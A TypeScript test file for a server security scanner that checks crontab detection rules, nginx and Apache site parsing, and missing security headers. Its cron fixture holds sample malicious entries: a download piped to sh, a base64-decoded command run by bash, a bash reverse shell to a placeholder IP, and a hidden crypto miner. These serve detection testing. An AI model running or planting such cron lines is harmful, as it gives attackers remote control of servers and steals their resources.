import { scanCrontab } from './cron.ts';
import { headerFindings, parseSiteFile } from './web.ts';

describe('issue 25 checks without a server', () => {
  it('cron: malicious entries at their line; ordinary jobs, comments and variables are no finding', () => {
    const tab = [
      'MAILTO=ops@example.com',
      '# curl http://x | sh (a comment)',
      '*/5 * * * * www-data php /var/www/shop/bin/magento cron:run > /dev/null 2>&1',
      '0 3 * * * root curl -fsS https://hc-ping.com/abc > /dev/null',
      '* * * * * root wget -qO- http://198.51.100.7/s | sh',
      '@hourly root echo Y3VybCBldmlsCg== | base64 -d | bash',
      '*/2 * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      '@reboot root /dev/shm/.x/xmrig -o stratum+tcp://pool.example:3333',
    ].join('\n');
    expect(scanCrontab('/etc/cron.d/portal', tab).map((f) => [f.line, f.rule])).toEqual([
      [5, 'cron_download_exec'],
      [6, 'cron_base64_exec'],
      [7, 'cron_reverse_shell'],
      [8, 'cron_miner'],
      [8, 'cron_hidden_tmp'],
    ]);
  });

  it('reads the sites of rendered nginx and apache files (HTTPS where it has it), paths back on the server', () => {
    const unhost = (p: string) => p.replace(/^\/sb/, '');
    const nginx = 'server {\n    listen 127.0.0.1:8080;\n    listen 127.0.0.1:8443 ssl;\n    server_name *.preview.example preview.example;\n    root "/sb/var/www/previews";\n}\n';
    expect(parseSiteFile('nginx', nginx, unhost)).toEqual({ server: 'nginx', host: 'preview.example', names: ['*.preview.example', 'preview.example'], documentRoot: '/var/www/previews', http: { host: '127.0.0.1', port: 8080 }, https: { host: '127.0.0.1', port: 8443 } });
    const apache = '<VirtualHost 127.0.0.1:8081>\n    ServerName shop.example\n    DocumentRoot "/sb/var/www/shop/pub"\n</VirtualHost>\n';
    expect(parseSiteFile('apache', apache, unhost)).toMatchObject({ host: 'shop.example', documentRoot: '/var/www/shop/pub', http: { port: 8081 }, https: null });
  });

  it('headers: HSTS only over HTTPS, CSP frame-ancestors counts as X-Frame-Options, the fix in the site’s server syntax', () => {
    const site = { server: 'apache' as const, host: 'shop.example', documentRoot: '/var/www/shop', http: null, https: { host: '127.0.0.1', port: 1 } };
    const answer = { status: 200, body: Buffer.from(''), headers: { 'content-security-policy': "frame-ancestors 'self'", 'x-content-type-options': 'nosniff' } };
    const found = headerFindings(site, 'https://shop.example/', answer, true);
    expect(found.map((f) => f.rule)).toEqual(['header_hsts', 'header_referrer_policy']);
    expect(found[0]!.directive).toBe('Header always set Strict-Transport-Security "max-age=31536000; includeSubDomains"');
    expect(headerFindings(site, 'http://shop.example/', answer, false).map((f) => f.rule)).toEqual(['header_referrer_policy']);
  });
});
